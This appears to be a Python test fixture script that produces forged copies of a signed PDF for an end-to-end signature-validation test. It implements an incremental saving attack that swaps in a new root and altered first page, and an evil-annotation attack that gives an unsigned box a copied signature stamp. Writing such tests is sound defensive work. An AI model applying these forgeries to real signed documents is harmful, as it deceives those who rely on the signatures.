"""Manipulated copies of a signed PDF, built as the published attacks build them, for
tests/e2e/sign_attacks.sh. Each command reads IN and writes OUT:

  attacks.py new-root IN OUT          an update of new objects only: a new catalog and page tree
                                      whose first page shows other text, the trailer's /Root moved
                                      to it (incremental saving attack, ISA)
  attacks.py appearance IN OUT BOX FROM
                                      BOX's empty widget given FROM's stamp as its appearance,
                                      with no signature value (evil annotation on a signature box)
  attacks.py sign IN OUT BOX KEY CERT [--time D:…] [--after ATTACK]
                                      BOX signed with KEY/CERT by openssl cms, the way any signing
                                      tool would, optionally in the same update as ATTACK
"""

import sys
import zlib

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pdf_forge import Name, Pdf, Ref, Stream, Update, sign_field  # noqa: E402

FORGED_TEXT = b"q 1 0 0 rg 100 400 200 80 re f Q"  # a red block where the text was


def new_root(pdf, u):
    """A second catalog over a second page tree; page 1 replaced by a copy with other content."""
    root = dict(pdf.root)
    pages = dict(pdf.get(root["/Pages"]))
    new_pages = u.new()
    kids = []
    for i, kid in enumerate(pages["/Kids"]):
        if i == 0:
            page = dict(pdf.get(kid))
            page["/Parent"] = new_pages
            page["/Contents"] = u.add(Stream({"/Filter": Name("/FlateDecode")}, zlib.compress(FORGED_TEXT)))
            kids.append(u.add(page))
        else:
            kids.append(kid)
    pages["/Kids"] = kids
    u.put(new_pages, pages)
    root["/Pages"] = new_pages
    u.trailer["/Root"] = u.add(root)


def appearance(pdf, u, box, source):
    """box's widget drawn with source's appearance, and no /V."""
    field_ref = pdf.field(box)
    field = dict(pdf.get(field_ref))
    field["/AP"] = pdf.get(pdf.field(source))["/AP"]
    u.put(field_ref, field)


def main(argv):
    cmd, src, dst = argv[1], argv[2], argv[3]
    pdf = Pdf(open(src, "rb").read())
    if cmd == "new-root":
        u = Update(pdf)
        new_root(pdf, u)
        out = u.write()
    elif cmd == "appearance":
        u = Update(pdf)
        appearance(pdf, u, argv[4], argv[5])
        out = u.write()
    elif cmd == "sign":
        box, key, cert = argv[4], argv[5], argv[6]
        options = dict(zip(argv[7::2], argv[8::2]))
        before = None
        if options.get("--after") == "new-root":
            def before(u):
                new_root(pdf, u)
        elif options.get("--after"):
            raise SystemExit("unknown attack " + options["--after"])
        time = options.get("--time", "D:20261201093000+09'00'")
        if before:
            # The forged catalog first: the signature's update must then hold the new /Root.
            staged = Update(pdf)
            before(staged)
            pdf = Pdf(staged.write())
        out = sign_field(pdf, box, key, cert, signing_time=time)
    else:
        raise SystemExit(__doc__)
    open(dst, "wb").write(out)


if __name__ == "__main__":
    main(sys.argv)
